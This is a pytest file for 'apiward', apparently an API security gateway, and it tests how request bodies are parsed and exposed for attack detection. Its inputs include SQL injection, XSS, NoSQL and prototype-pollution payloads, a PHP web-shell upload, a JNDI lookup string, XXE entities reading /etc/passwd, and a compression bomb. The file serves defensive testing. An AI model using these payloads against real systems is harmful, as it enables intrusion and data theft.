"""Body parsing truth tables: JSON, form, multipart, XML, text, opaque, malformed, encodings."""

from __future__ import annotations

import gzip
import time
import zlib

import pytest

from apiward.core import BodyKind, RequestView, Source
from apiward.errors import RequestRejected
from apiward.http.charset import sniff_ebcdic, sniff_wide_charset
from apiward.http.parse import build_request_view
from apiward.settings import LimitSettings, MalformedBody

LIMITS = LimitSettings()
STRICT = LimitSettings(malformed_body=MalformedBody.REJECT)


def post(body: bytes, content_type: str | None, limits: LimitSettings = LIMITS, **headers: str) -> RequestView:
    hdrs = [("content-type", content_type)] if content_type is not None else []
    hdrs += [(k.replace("_", "-"), v) for k, v in headers.items()]
    return build_request_view("POST", "/api", "", hdrs, "192.0.2.1", body, limits)


def body_fields(v: RequestView) -> list[tuple[str, str]]:
    return [(f.name, f.value) for f in v.fields if f.source is Source.BODY]


# --- JSON -----------------------------------------------------------------------------------

JSON_CASES = [
    (b'{"a": "x"}', [("a", "x")]),
    (b'{"user": {"name": "bob", "age": 3}}', [("user.name", "bob"), ("user.age", "3")]),
    (b'{"items": [{"sku": "A1"}, {"sku": "B2"}]}', [("items[1].sku", "B2"), ("items[0].sku", "A1")]),
    (b'[1, "two", null, true, false, 1.5]', [("[0]", "1"), ("[1]", "two"), ("[2]", "null"), ("[3]", "true"), ("[4]", "false"), ("[5]", "1.5")]),
    (b'"just a string"', [("", "just a string")]),
    (b"42", [("", "42")]),
    (b'{"$where": "sleep(1)"}', [("$where#key", "$where"), ("$where", "sleep(1)")]),
    (b'{"user": {"$ne": null}}', [("user.$ne#key", "$ne"), ("user.$ne", "null")]),
    (b'{"a b": 1}', [("a b#key", "a b"), ("a b", "1")]),
    (b'{"ok-key_1.x@y:z": 1}', [("ok-key_1.x@y:z", "1")]),  # plain identifier keys are not fields
    (b'{"__proto__": {"isAdmin": true}}', [("__proto__#key", "__proto__"), ("__proto__.isAdmin", "true")]),
    (b'{"a": {"constructor": {"prototype": 1}}}', [("a.constructor#key", "constructor"), ("a.constructor.prototype#key", "prototype"), ("a.constructor.prototype", "1")]),
    (b'{"' + b"k" * 65 + b'": 1}', [("k" * 64 + "…#key", "k" * 65), ("k" * 64 + "…", "1")]),  # long: name cut
    (b"{}", []),
    (b"[]", []),
]


@pytest.mark.parametrize(("body", "expected"), JSON_CASES)
@pytest.mark.parametrize("ctype", ["application/json", "application/json; charset=utf-8", "application/vnd.api+json", "APPLICATION/JSON"])
def test_json_truth_table(body: bytes, expected: list[tuple[str, str]], ctype: str) -> None:
    v = post(body, ctype)
    assert v.body_kind is BodyKind.JSON
    assert sorted(body_fields(v)) == sorted(expected)
    assert v.json is not None or body == b"null"
    assert v.content_type == ctype.split(";")[0].lower()


def test_json_keeps_parsed_document() -> None:
    v = post(b'{"a": [1, {"b": "c"}]}', "application/json")
    assert v.json == {"a": [1, {"b": "c"}]}


@pytest.mark.parametrize("ctype", [None, "text/plain", "application/x-unknown"])
def test_json_sniffed_without_json_type(ctype: str | None) -> None:
    v = post(b'  {"q": "<script>"}', ctype)
    assert v.body_kind is BodyKind.JSON and body_fields(v) == [("q", "<script>")]


def test_json_labelled_as_a_form_is_read_as_json() -> None:
    # Algolia's and beacon clients post JSON as a form (no CORS preflight); their server reads JSON
    v = post(b'{"query": "", "filters": "(sku:1 OR sku:2) AND price > 0"}', "application/x-www-form-urlencoded")
    assert v.body_kind is BodyKind.JSON
    assert sorted(body_fields(v)) == [("filters", "(sku:1 OR sku:2) AND price > 0"), ("query", "")]


@pytest.mark.parametrize("body", [b"{a=1&b=2", b"[x]=1&y=2", b'{"a": 1'])
def test_a_form_that_only_opens_like_json_is_a_form(body: bytes) -> None:
    v = post(body, "application/x-www-form-urlencoded")
    assert v.body_kind is BodyKind.FORM
    assert len(body_fields(v)) >= 1


def test_sniffed_json_that_breaks_limits_is_inspected_raw_not_refused() -> None:
    deep = b"[" * 100 + b"]" * 100
    v = post(deep, "text/plain")
    assert v.body_kind is BodyKind.TEXT and body_fields(v) == [("", deep.decode())]


@pytest.mark.parametrize("ctype", ["application/json", None])
@pytest.mark.parametrize(
    "body",
    [b'{"q": "\' or 1=1--", "q": "fine"}', b'{"a": {"q" : "<script>", "q" : "x"}}', b'[{"u": "1", "u": "2"}]'],
)
def test_duplicate_json_keys_expose_the_raw_text(body: bytes, ctype: str | None) -> None:
    """orjson keeps the last duplicate, some frameworks the first: the raw text covers both."""
    v = post(body, ctype)
    assert v.body_kind is BodyKind.JSON and ("", body.decode()) in body_fields(v)


@pytest.mark.parametrize(
    "body",
    [b'{"a": "x:y", "b": "\\":"}', b'{"url": "http://h:1/p", "t": "12:00"}', b'{"k\\\\": 1}', b'{"a": 1, "b": {"a": 2}}'],
)
def test_colons_in_values_are_not_duplicates(body: bytes) -> None:
    assert ("", body.decode()) not in body_fields(post(body, "application/json"))


def test_json_with_utf8_bom() -> None:
    assert body_fields(post(b'\xef\xbb\xbf{"a": "b"}', "application/json")) == [("a", "b")]


def test_json_utf16_charset() -> None:
    v = post('{"a": "é"}'.encode("utf-16"), "application/json; charset=utf-16")
    assert body_fields(v) == [("a", "é")]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
def test_wide_json_without_a_charset_is_sniffed(codec: str) -> None:
    # the NUL pattern of '{"' (or a byte order mark) tells the encoding, as RFC 4627 reads it
    assert body_fields(post('{"a": "é"}'.encode(codec), "application/json")) == [("a", "é")]


@pytest.mark.parametrize(("head", "codec"), [
    (b"\xff\xfe<\x00", "utf-16"), (b"\xfe\xff\x00<", "utf-16"), (b"\xff\xfe\x00\x00", "utf-32"),
    (b"<\x00?\x00", "utf-16-le"), (b"\x00<\x00?", "utf-16-be"), (b"<\x00\x00\x00", "utf-32-le"),
    (b"\x00\x00\x00<", "utf-32-be"), (b"<?xm", ""), (b"\x89PNG", ""), (b"\x00\x00\x00\x00", ""),
    (b"\x00\x01\x00\x02", ""), (b"PK\x03\x04", ""), (b"\xff\xd8\xff\xe0", ""), (b"a", ""),
])
def test_sniff_wide_charset(head: bytes, codec: str) -> None:
    assert sniff_wide_charset(head) == codec


@pytest.mark.parametrize(
    ("declared", "codec"), [("IBM037", "cp037"), ("IBM500", "cp500"), ("IBM1140", "cp1140"), ("EBCDIC-CP-US", "cp037")]
)
def test_sniff_ebcdic_xml(declared: str, codec: str) -> None:
    doc = f'<?xml version="1.0" encoding="{declared}"?><r a="[!]"/>'.encode(codec)
    assert sniff_ebcdic(doc) == codec
    assert sniff_ebcdic(b'<?xml version="1.0"?>') == ""


def test_declared_ebcdic_charset_alone_does_not_hide_ascii() -> None:
    # the charset parameter names EBCDIC, the bytes are ASCII: read as UTF-8 too (nothing hidden;
    # its reading in EBCDIC, for a server that honours the charset, is noise)
    v = post(b"<script>alert(1)</script>", "text/plain; charset=ibm037")
    assert body_fields(v) == [("", b"<script>alert(1)</script>".decode("cp037")), ("", "<script>alert(1)</script>")]


def test_binary_with_a_wide_looking_head_stays_binary() -> None:
    # two NULs in the first four bytes, but NUL code units later: not text in any width
    v = post(b"<\x00?\x00" + bytes(range(256)) * 4, "application/octet-stream")
    assert v.body_kind is BodyKind.BINARY


# --- depth ----------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [1, 10, 32])
def test_json_depth_within_limit(depth: int) -> None:
    body = b"[" * depth + b"1" + b"]" * depth
    assert post(body, "application/json").body_kind is BodyKind.JSON


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 33 + b"]" * 33,
        b'{"a":' * 33 + b"1" + b"}" * 33,
        b"[" * 2000 + b"]" * 2000,  # beyond orjson's own limit
        b"[" * 100_000,  # unclosed: still "too deep", not "malformed"
        b"[" * 100_000 + b"]" * 100_000,
    ],
)
@pytest.mark.parametrize("limits", [LIMITS, STRICT])
def test_json_too_deep_is_400_fast(body: bytes, limits: LimitSettings) -> None:
    start = time.monotonic()
    with pytest.raises(RequestRejected) as info:
        post(body, "application/json", limits)
    assert info.value.status == 400 and info.value.title == "Body nested too deeply"
    assert time.monotonic() - start < 2.0  # generous: must not be quadratic or recursive


def test_json_depth_limit_configurable() -> None:
    body = b"[" * 5 + b"]" * 5
    with pytest.raises(RequestRejected):
        post(body, "application/json", LimitSettings(max_json_depth=4))
    assert post(body, "application/json", LimitSettings(max_json_depth=5)).body_kind is BodyKind.JSON


# --- malformed ------------------------------------------------------------------------------

MALFORMED = [
    (b'{"a": ', "application/json"),
    (b"{'a': 1}", "application/json"),
    (b'{"a": "\xff\xfe"}', "application/json"),  # invalid UTF-8 inside JSON
    (b"<a><b></a>", "application/xml"),
    (b"not xml at all", "text/xml"),
    (b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n", "multipart/form-data; boundary=x"),  # no closing boundary
    (b"garbage", "multipart/form-data"),  # no boundary parameter
    (b"not gzip", "text/plain", {"content_encoding": "gzip"}),
]


@pytest.mark.parametrize("case", MALFORMED)
def test_malformed_inspect_raw_keeps_every_byte(case: tuple) -> None:  # type: ignore[type-arg]
    body, ctype, *extra = case
    v = post(body, ctype, LIMITS, **(extra[0] if extra else {}))
    assert v.body_kind is BodyKind.TEXT
    assert body_fields(v) == [("", body.decode("utf-8", "replace"))]
    assert v.body == body  # raw bytes kept on the view


@pytest.mark.parametrize("case", MALFORMED)
def test_malformed_reject_is_400(case: tuple) -> None:  # type: ignore[type-arg]
    body, ctype, *extra = case
    with pytest.raises(RequestRejected) as info:
        post(body, ctype, STRICT, **(extra[0] if extra else {}))
    assert info.value.status == 400 and info.value.title == "Malformed request body"


# --- form -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"a=1&b=2", [("a", "1"), ("b", "2")]),
        (b"a=1&a=", [("a", "1"), ("a", "")]),
        (b"q=%3Cscript%3E+x", [("q", "<script> x")]),
        (b"name=\xff", [("name", "\ufffd")]),
        (b"x[$gt]=", [("x[$gt]", ""), ("x[$gt]#key", "x[$gt]")]),
    ],
)
def test_form_truth_table(body: bytes, expected: list[tuple[str, str]]) -> None:
    v = post(body, "application/x-www-form-urlencoded; charset=UTF-8")
    assert v.body_kind is BodyKind.FORM and body_fields(v) == expected


# --- multipart ------------------------------------------------------------------------------


def multipart(*parts: tuple[str, bytes], boundary: str = "XyZ") -> bytes:
    out = b""
    for headers, content in parts:
        out += f"--{boundary}\r\n{headers}\r\n\r\n".encode() + content + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


MP = "multipart/form-data; boundary=XyZ"


def test_a_quoted_filename_is_also_read_with_its_backslashes() -> None:
    """Quoted-string rules drop backslashes ("..\\..\\win.ini" becomes "....win.ini"); PHP, browsers
    and many servers keep them, so the name is read both ways."""
    body = multipart(('Content-Disposition: form-data; name="f"; filename="..\\..\\WINDOWS\\win.ini"\r\nContent-Type: text/plain', b"x"))
    assert body_fields(post(body, MP)) == [("f#filename", "....WINDOWSwin.ini"), ("f#filename", "..\\..\\WINDOWS\\win.ini"), ("f", "x")]
    body = multipart(('Content-Disposition: form-data; name="f"; filename="report.pdf"\r\nContent-Type: text/plain', b"x"))
    assert body_fields(post(body, MP)) == [("f#filename", "report.pdf"), ("f", "x")]


# a form field and a script upload, and the fields they are read as
_FIELD_AND_SCRIPT = (
    ('Content-Disposition: form-data; name="title"', b"hello ' or 1=1"),
    ('Content-Disposition: form-data; name="doc"; filename="../../shell.php"\r\nContent-Type: text/plain', b"<?php system($_GET['c']); ?>"),
)
_FIELD_AND_SCRIPT_READ = [
    ("title", "hello ' or 1=1"),
    ("doc#filename", "../../shell.php"),
    ("doc", "<?php system($_GET['c']); ?>"),
]


def test_multipart_fields_and_filenames() -> None:
    body = multipart(
        *_FIELD_AND_SCRIPT,
        ('Content-Disposition: form-data; name="pic"; filename="cat.png"\r\nContent-Type: image/png', b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ('Content-Disposition: form-data; name="empty"; filename=""\r\nContent-Type: application/octet-stream', b""),
    )
    v = post(body, MP)
    assert v.body_kind is BodyKind.MULTIPART
    assert body_fields(v) == [*_FIELD_AND_SCRIPT_READ, ("pic#filename", "cat.png")]


def test_multipart_with_bare_lf_line_endings_is_read_as_php_and_go_read_it() -> None:
    v = post(multipart(*_FIELD_AND_SCRIPT).replace(b"\r\n", b"\n"), MP)
    assert v.body_kind is BodyKind.MULTIPART
    assert body_fields(v) == _FIELD_AND_SCRIPT_READ


@pytest.mark.parametrize(
    ("ctype", "read"),
    [
        ("${jndi:ldap://203.0.113.10:1389/x}", True),
        ("' OR '1'='1' -- ", True),
        ("<scr<script>ipt>alert(1)</scr</script>ipt>", True),
        ("image/png", False),
        ("text/plain; charset=UTF-8", False),
        ('multipart/mixed; boundary="b1:(x)"', False),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", False),
    ],
)
def test_a_parts_own_content_type_is_read_when_it_is_no_media_type(ctype: str, read: bool) -> None:
    body = multipart((f'Content-Disposition: form-data; name="f"; filename="a.pdf"\r\nContent-Type: {ctype}', b"%PDF-1.7"))
    assert (("f#content-type", ctype.strip()) in body_fields(post(body, MP))) is read


@pytest.mark.parametrize(
    ("disposition", "read"),
    [
        ('form-data; name="f"; filename=""><img src=x onerror=alert(1)>.png"', True),
        ("form-data; name=f; filename=a.png; <svg onload=alert(1)>", True),
        ('form-data; name="f"; filename="a b (1).png"', False),
        ("form-data; name=f; filename*=UTF-8''na%C3%AFve.txt", False),
        ('form-data; name="f"; filename="C:\\Users\\me\\a.png"', False),
    ],
)
def test_a_content_disposition_with_text_outside_its_parameters_is_read(disposition: str, read: bool) -> None:
    body = multipart((f"Content-Disposition: {disposition}\r\nContent-Type: image/png", b"\x89PNG\r\n"))
    assert (("f#content-disposition", disposition) in body_fields(post(body, MP))) is read


def test_multipart_text_content_under_binary_label_is_inspected() -> None:
    body = multipart(('Content-Disposition: form-data; name="f"; filename="a.png"\r\nContent-Type: image/png', b"<?php eval($x); ?>"))
    assert body_fields(post(body, MP)) == [("f#filename", "a.png"), ("f", "<?php eval($x); ?>")]


def test_multipart_binary_file_text_prefix_is_inspected() -> None:
    # a file part that is text and then a NUL or a stray byte: its text is inspected
    body = multipart(
        ('Content-Disposition: form-data; name="f"; filename="a.json"\r\nContent-Type: application/octet-stream', b'{"q": "x\' or 1=1--"}\x00junk'),
        ('Content-Disposition: form-data; name="g"; filename="a.html"\r\nContent-Type: image/png', b"<script>alert(1)</script>\xff\x00"),
        ('Content-Disposition: form-data; name="pic"; filename="cat.png"\r\nContent-Type: image/png', b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ('Content-Disposition: form-data; name="gif"; filename="a.gif"\r\nContent-Type: image/gif', b"GIF89a\x10\x00\x10\x00\x80\x00"),
    )
    assert body_fields(post(body, MP)) == [
        ("f#filename", "a.json"), ("f", '{"q": "x\' or 1=1--"}'),
        ("g#filename", "a.html"), ("g", "<script>alert(1)</script>"),
        ("pic#filename", "cat.png"), ("gif#filename", "a.gif"),
    ]


def test_multipart_empty_filename_is_a_form_value() -> None:
    # Go's ReadForm keeps a part with filename="" as a form value (FormValue("q")): its content is
    # read as text, a leading NUL or stray byte and a binary label notwithstanding
    body = multipart(
        ('Content-Disposition: form-data; name="q"; filename=""\r\nContent-Type: image/png', b"\x00' or 1=1--"),
        ('Content-Disposition: form-data; name="r"; filename=""\r\nContent-Type: image/png', b"\xff<script>"),
        ('Content-Disposition: form-data; name="empty"; filename=""\r\nContent-Type: application/octet-stream', b""),
    )
    assert body_fields(post(body, MP)) == [("q", "\x00' or 1=1--"), ("r", "\ufffd<script>")]


def test_multipart_part_with_conflicting_headers_is_a_form_field() -> None:
    # Starlette keeps the last Content-Disposition (a form field "q"), apiward's parser the first
    # (a file): a part whose headers disagree is read whole, as text
    body = multipart((
        'Content-Disposition: form-data; name="q"; filename="a.png"\r\nContent-Type: image/png\r\n'
        'Content-Disposition: form-data; name="q"', b"<script>alert(1)</script>\xff\x00x",
    ))
    assert body_fields(post(body, MP)) == [("q#filename", "a.png"), ("q", "<script>alert(1)</script>\ufffd\x00x")]
    # the same header twice with one value is no conflict: a binary file stays uninspected
    same = 'Content-Disposition: form-data; name="p"; filename="a.png"'
    body = multipart((f"{same}\r\n{same}\r\nContent-Type: image/png", b"\x89PNG\r\n\x1a\n\x00\x00"))
    assert body_fields(post(body, MP)) == [("p#filename", "a.png")]


def test_multipart_binary_under_text_label_is_inspected() -> None:
    body = multipart(('Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain', b"x\x00<script>"))
    assert body_fields(post(body, MP)) == [("f#filename", "a.txt"), ("f", "x\x00<script>")]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("ctype", ["image/svg+xml", "image/png", "application/octet-stream"])
def test_multipart_wide_text_file_is_read_as_text(codec: str, ctype: str) -> None:
    # an SVG saved as UTF-16 is text to the image library that parses it, whatever its label
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    body = multipart((f'Content-Disposition: form-data; name="f"; filename="a.svg"\r\nContent-Type: {ctype}', svg.encode(codec)))
    assert body_fields(post(body, MP)) == [("f#filename", "a.svg"), ("f", svg)]


def test_multipart_declared_wide_charset_part() -> None:
    body = multipart(('Content-Disposition: form-data; name="t"\r\nContent-Type: text/plain; charset=utf-16', "é<b>".encode("utf-16")))
    assert body_fields(post(body, MP)) == [("t", "é<b>")]


def test_multipart_filename_star_reported() -> None:
    body = multipart(("Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd", b"x"))
    assert body_fields(post(body, MP)) == [("f#filename", "a.txt"), ("f#filename", "../../etc/passwd"), ("f", "x")]


def test_multipart_utf8_names_and_unnamed_parts() -> None:
    body = multipart(('Content-Disposition: form-data; name="n"; filename="naïve.txt"', b"ok"), ("Content-Type: text/plain", b"v"))
    assert body_fields(post(body, MP)) == [("n#filename", "naïve.txt"), ("n", "ok"), ("1", "v")]


def test_multipart_transfer_encoded_part_inspected_both_ways() -> None:
    body = multipart(
        ('Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64', b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        ('Content-Disposition: form-data; name="b"\r\nContent-Transfer-Encoding: quoted-printable', b"=27 or 1=3D1--"),
    )
    got = body_fields(post(body, MP))
    assert ("a", "<script>alert(1)</script>") in got and ("a", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==") in got
    assert ("b", "' or 1=1--") in got


def test_multipart_empty_plain_part_kept() -> None:
    body = multipart(('Content-Disposition: form-data; name="a"', b""))
    assert body_fields(post(body, MP)) == [("a", "")]


def test_broken_multipart_does_not_log(caplog: pytest.LogCaptureFixture) -> None:
    """Attackers control malformed bodies; each one must not become a log line."""
    with caplog.at_level("DEBUG"):
        for _ in range(3):
            post(b"--XyZX\r\n", MP)
    assert not [r for r in caplog.records if r.name.startswith("python_multipart")]


def test_multipart_mixed_and_quoted_boundary() -> None:
    body = multipart(('Content-Disposition: form-data; name="a"', b"1"), boundary="b;q")
    v = post(body, 'multipart/mixed; boundary="b;q"')
    assert body_fields(v) == [("a", "1")]


# --- XML ------------------------------------------------------------------------------------


def test_xml_elements_and_attributes() -> None:
    body = b'<?xml version="1.0"?><order id="7" xmlns:x="urn:x"><x:item sku="A1">two</x:item><note>hi<b>x</b>tail</note></order>'
    v = post(body, "application/xml")
    assert v.body_kind is BodyKind.XML
    assert sorted(body_fields(v)) == sorted(
        [("order@id", "7"), ("order.item@sku", "A1"), ("order.item", "two"), ("order.note", "hi"), ("order.note.b", "x"), ("order.note", "tail")]
    )


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        b'<!DOCTYPE r [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><r>&b;</r>',
        b'<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r>1</r>',
    ],
)
@pytest.mark.parametrize("limits", [LIMITS, STRICT])
def test_xml_dtd_not_resolved_but_visible(body: bytes, limits: LimitSettings) -> None:
    v = post(body, "text/xml", limits)  # never rejected as malformed: it is for the XXE detector
    got = body_fields(v)
    assert ("", body.decode()) in got
    assert not any("root:" in value for _, value in got)  # nothing was resolved


@pytest.mark.parametrize(
    "body",
    [
        b'<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://x.example/s.xsd"/>',
        b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>',
        b'<?xml-stylesheet type="text/xsl" href="http://x.example/s.xsl"?><r/>',
    ],
)
def test_xml_that_makes_a_parser_fetch_is_also_read_whole(body: bytes) -> None:
    assert ("", body.decode()) in body_fields(post(body, "application/xml"))


def test_xml_in_an_encoding_the_parser_does_not_know_is_read_as_text() -> None:
    body = b'<?xml version="1.0" encoding="EBCDIC-US"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    v = post(body, "application/xml")  # the gateway's parser refuses it; the upstream's may not
    assert ("", body.decode()) in body_fields(v)


@pytest.mark.parametrize(
    "body",
    [
        b'<script src="//evil.example/x.js"></script>',
        b'<root><name>a</name><iframe src="http://evil.example/"/></root>',
        b'<h:object xmlns:h="http://www.w3.org/1999/xhtml" DATA="//evil.example/x.sct"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
    ],
)
def test_xml_with_active_html_element_kept_whole(body: bytes) -> None:
    """An HTML element that runs script or loads a source keeps the raw document: its fields
    alone ("root.iframe@src") lose the element that makes the address active."""
    assert ("", body.decode()) in body_fields(post(body, "application/xml"))


@pytest.mark.parametrize(
    "body",
    [
        b"<Delete><Object><Key>a.txt</Key></Object></Delete>",  # an element named like one, no source
        b'<feed><link rel="alternate" href="https://example.com/"/><base>eur</base></feed>',
    ],
)
def test_xml_without_active_html_element_not_kept_whole(body: bytes) -> None:
    assert all(name for name, _ in body_fields(post(body, "application/xml")))


def test_xml_deep_nesting_refused_fast() -> None:
    body = b"<a>" * 100_000 + b"</a>" * 100_000
    start = time.monotonic()
    with pytest.raises(RequestRejected) as info:
        post(body, "application/xml")
    assert info.value.status == 400 and time.monotonic() - start < 5.0


@pytest.mark.parametrize("ctype", ["application/soap+xml", "text/xml; charset=utf-8", "application/atom+xml"])
def test_xml_types(ctype: str) -> None:
    assert body_fields(post(b"<a>1</a>", ctype)) == [("a", "1")]


# --- text, unknown and opaque ---------------------------------------------------------------


@pytest.mark.parametrize("ctype", ["text/plain", "text/html", "application/graphql", "my-new-content-type", None, ""])
def test_text_and_unknown_types_are_one_raw_field(ctype: str | None) -> None:
    v = post(b"query { user(id: \"1' or 1=1\") }", ctype)
    assert v.body_kind is BodyKind.TEXT and body_fields(v) == [("", "query { user(id: \"1' or 1=1\") }")]


def test_invalid_utf8_text_is_replaced_and_raw_kept() -> None:
    v = post(b"abc\xff\xfedef", "text/plain")
    assert body_fields(v) == [("", "abc\ufffd\ufffddef")] and v.body == b"abc\xff\xfedef"


@pytest.mark.parametrize("ctype", ["application/octet-stream", "image/png", "video/mp4", "audio/ogg"])
def test_opaque_binary_has_no_fields(ctype: str) -> None:
    v = post(b"\x89PNG\x00\x01\x02\xff", ctype)
    assert v.body_kind is BodyKind.BINARY and body_fields(v) == []


def test_opaque_label_on_plain_text_is_inspected() -> None:
    v = post(b"id=1' union select password from users--", "application/octet-stream")
    assert v.body_kind is BodyKind.TEXT and body_fields(v) == [("", "id=1' union select password from users--")]


# a document and a NUL or a stray byte after it: Go's and Jackson's JSON decoders read the first
# value and stop, an HTML page is rendered past a NUL; real binary opens with a few bytes of magic
OPAQUE_PREFIXES = [
    (b'{"q": "1\' or \'1\'=\'1"}\x00', '{"q": "1\' or \'1\'=\'1"}'),
    (b'{"q": "<script>alert(1)</script>"}\xff\xfe', '{"q": "<script>alert(1)</script>"}'),
    (b"<svg onload=alert(1)>\x00\x01\x02", "<svg onload=alert(1)>"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), None),  # no text before the magic's first high byte
    (b"GIF89a\x10\x00\x10\x00\x80\x00\x00" + bytes(range(256)), None),  # a magic number: shorter than MIN_PREFIX
    (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)), None),
    (b"PK\x03\x04\x14\x00\x00\x00" + bytes(range(256)), None),
]


@pytest.mark.parametrize(("body", "prefix"), OPAQUE_PREFIXES)
def test_opaque_binary_text_prefix_is_inspected(body: bytes, prefix: str | None) -> None:
    v = post(body, "application/octet-stream")
    assert v.body_kind is BodyKind.BINARY
    assert body_fields(v) == ([("", prefix)] if prefix is not None else [])


def test_opaque_binary_text_prefix_is_bounded_like_text() -> None:
    limits = LimitSettings(max_body_bytes=1000, max_upload_bytes=100_000)
    assert post(b"a" * 900 + b"\x00" + bytes(range(256)) * 100, "image/png", limits).body_kind is BodyKind.BINARY
    with pytest.raises(RequestRejected) as err:
        post(b"a" * 1001 + b"\x00" + bytes(range(256)) * 100, "image/png", limits)
    assert err.value.status == 413


# --- content encoding -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "encode"),
    [
        ("gzip", gzip.compress),
        ("x-gzip", gzip.compress),
        ("deflate", zlib.compress),
        ("deflate", lambda b: zlib.compress(b)[2:-4]),  # raw deflate
        ("gzip, gzip", lambda b: gzip.compress(gzip.compress(b))),
        ("identity", lambda b: b),
    ],
)
def test_content_encoding_decoded(encoding: str, encode) -> None:  # type: ignore[no-untyped-def]
    v = post(encode(b'{"q": "x"}'), "application/json", content_encoding=encoding)
    assert body_fields(v) == [("q", "x")]


def test_compression_bomb_is_413() -> None:
    bomb = gzip.compress(b"\x00" * (8 << 20))
    assert len(bomb) < LIMITS.max_body_bytes
    with pytest.raises(RequestRejected) as info:
        post(bomb, "text/plain", content_encoding="gzip")
    assert info.value.status == 413


@pytest.mark.parametrize("encoding", ["br", "zstd", "compress", "gzip, br"])
def test_unknown_content_encoding_is_415(encoding: str) -> None:
    with pytest.raises(RequestRejected) as info:
        post(b"anything", "application/json", content_encoding=encoding)
    assert info.value.status == 415


# --- declared EBCDIC charsets ----------------------------------------------------------------

EBCDIC_CODECS = [
    ("ibm037", "cp037"), ("IBM037".lower(), "cp037"), ("ibm01140", "cp1140"), ("cp500", "cp500"), ("ibm500", "cp500"),
    ("ebcdic-cp-us", "cp037"), ("cp1026", "cp1026"),
    ("utf-8", ""), ("iso-8859-1", ""), ("windows-1252", ""), ("cp1252", ""), ("cp437", ""), ("", ""), ("no-such", ""),
]


@pytest.mark.parametrize(("charset", "codec"), EBCDIC_CODECS)
def test_ebcdic_codec(charset: str, codec: str) -> None:
    from apiward.http.charset import ebcdic_codec

    assert ebcdic_codec(charset) == codec


def _ebcdic_form(text: str, codec: str = "cp037") -> bytes:
    from urllib.parse import quote_plus

    return "&".join(
        "=".join(quote_plus(side.encode(codec)) for side in pair.split("=", 1)) for pair in text.split("&")
    ).encode()


def test_ebcdic_form_is_read_in_its_charset() -> None:
    # IIS / ASP.NET decode a form's escapes in the charset it declares; read as UTF-8 they are noise
    v = post(_ebcdic_form("q=<script>alert(1)</script>&id=1"), "application/x-www-form-urlencoded; charset=ibm037")
    fields = body_fields(v)
    assert ("q", "<script>alert(1)</script>") in fields and ("id", "1") in fields
    raw = post("q=1' or 1=1--".encode("cp500"), "application/x-www-form-urlencoded; charset=ibm500")
    assert ("q", "1' or 1=1--") in body_fields(raw)


def test_ebcdic_text_and_part_are_read_in_their_charset() -> None:
    v = post("<svg onload=alert(1)>".encode("cp037"), "text/plain; charset=IBM037")
    assert ("", "<svg onload=alert(1)>") in body_fields(v)
    body = multipart(('Content-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=ibm037', "' or 1=1--".encode("cp037")))
    assert ("q", "' or 1=1--") in body_fields(post(body, MP))


@pytest.mark.parametrize("charset", ["utf-8", "iso-8859-1", "windows-1252", "shift_jis"])
def test_other_declared_charsets_add_no_reading(charset: str) -> None:
    v = post(b"q=caf%C3%A9&n=2", f"application/x-www-form-urlencoded; charset={charset}")
    assert body_fields(v) == [("q", "caf\u00e9"), ("n", "2")]
